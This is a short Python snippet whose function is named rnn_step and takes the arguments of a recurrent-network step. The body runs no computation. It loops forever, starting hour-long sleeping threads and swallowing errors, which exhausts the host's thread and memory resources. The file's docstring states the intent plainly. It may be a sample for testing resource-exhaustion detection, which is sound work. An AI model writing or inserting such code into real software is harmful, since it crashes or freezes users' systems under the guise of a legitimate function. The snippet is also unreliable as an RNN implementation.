"""Start threads for ever."""

# %% rnn_step
import threading
import time


def rnn_step(x, h_prev, Wx, Wh, b):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            pass
